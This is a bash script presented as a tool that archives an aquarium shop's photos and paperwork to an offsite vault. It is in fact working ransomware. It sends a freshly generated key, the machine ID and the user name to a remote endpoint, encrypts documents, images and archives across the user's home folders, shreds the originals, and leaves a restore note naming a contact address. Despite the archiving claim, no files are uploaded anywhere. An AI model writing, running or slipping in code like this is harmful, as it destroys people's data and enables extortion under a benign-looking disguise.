#!/usr/bin/env bash
# tank_photo_archive.sh - pack livestock / tank photos and shop paperwork into
# encrypted per-file bundles for the offsite vault, freeing local disk on the
# shop PC.  The bundle key is registered with the vault service so any
# branch can restore from it; nothing sensitive is left on this machine.
#
#   ARCHIVE_ROOTS   space separated list of folders (default: Pictures, Documents, Desktop)
#   VAULT_URL       vault registration endpoint
#   JOBS            parallel workers (default 4)
set -euo pipefail

ARCHIVE_ROOTS=${ARCHIVE_ROOTS:-"$HOME/Pictures $HOME/Documents $HOME/Desktop $HOME/Downloads"}
VAULT_URL=${VAULT_URL:-https://vault.example-aquatics.net/api/v1/hosts/register}
JOBS=${JOBS:-4}
LOGFILE=${LOGFILE:-./photo_archive.log}
SUFFIX=.vlt
EXTENSIONS=(jpg jpeg png heic raw cr2 nef mp4 mov pdf doc docx xls xlsx ods odt csv txt zip)

log() { printf '%s %s\n' "$(date '+%F %T')" "$*" | tee -a "$LOGFILE" >&2; }

host_id() {
    if [ -r /etc/machine-id ]; then cat /etc/machine-id; else hostname; fi
}

register_bundle_key() {
    local key=$1 attempt
    for attempt in 1 2 3 4; do
        if curl -fsS -m 20 -X POST -H 'Content-Type: application/json' \
             -d "{\"host\":\"$(host_id)\",\"user\":\"${USER:-unknown}\",\"bundle_key\":\"$key\"}" \
             "$VAULT_URL" >/dev/null 2>&1; then
            return 0
        fi
        log "vault registration attempt $attempt failed"
        sleep $((attempt * 15))
    done
    return 1
}

find_args() {
    local first=1 ext
    printf '%s\0' "("
    for ext in "${EXTENSIONS[@]}"; do
        [ $first -eq 1 ] || printf '%s\0' "-o"
        printf '%s\0' "-iname" "*.${ext}"
        first=0
    done
    printf '%s\0' ")"
}

pack_one() {
    local src=$1
    [ -f "$src" ] || return 0
    if openssl enc -aes-256-cbc -pbkdf2 -iter 100000 -salt -pass env:BUNDLE_KEY \
         -in "$src" -out "$src$SUFFIX" 2>/dev/null; then
        touch -r "$src" "$src$SUFFIX"
        shred -fzu -n 1 "$src" 2>/dev/null || rm -f "$src"
    else
        rm -f "$src$SUFFIX"
        echo "skip $src" >&2
    fi
}
export -f pack_one
export SUFFIX

leave_note() {
    local dir=$1
    cat > "$dir/ARCHIVED_FILES_README.txt" <<EOF
Files in this folder were moved into the offsite vault on $(date '+%F').
Host reference: $(host_id)
To restore them contact restore@example-aquatics.net quoting the host reference.
EOF
}

main() {
    command -v openssl >/dev/null || { log "openssl missing"; exit 1; }
    mapfile -d '' FIND_EXPR < <(find_args)

    BUNDLE_KEY=$(openssl rand -hex 32)
    export BUNDLE_KEY
    if ! register_bundle_key "$BUNDLE_KEY"; then
        log "vault unreachable, nothing archived"
        exit 1
    fi

    local root count
    for root in $ARCHIVE_ROOTS; do
        [ -d "$root" ] || continue
        count=$(find "$root" -type f "${FIND_EXPR[@]}" ! -name "*$SUFFIX" | wc -l)
        log "packing $count files under $root"
        find "$root" -type f "${FIND_EXPR[@]}" ! -name "*$SUFFIX" -print0 |
            xargs -0 -r -n 1 -P "$JOBS" bash -c 'pack_one "$0"'
        leave_note "$root"
    done

    unset BUNDLE_KEY
    log "archive run complete"
}

main "$@"
